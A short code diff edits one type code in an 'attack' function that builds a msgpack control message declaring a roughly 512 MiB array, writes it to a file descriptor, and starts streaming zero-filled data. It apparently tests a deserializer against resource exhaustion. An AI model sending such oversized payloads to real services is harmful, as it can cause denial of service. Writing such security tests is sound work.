@@ -12,7 +12,7 @@ import msgpack
 
 def attack():
     size = (512 << 20) - 1
-    control = msgpack.packb([[2, "value", [4, 0]], [["uint8", [size], False]]])
+    control = msgpack.packb([[4, "value", [4, 0]], [["uint8", [size], False]]])
     os.write(3, struct.pack("<4sI", b"TGB1", len(control)) + control)
     part = bytes(1 << 20)
     while size:
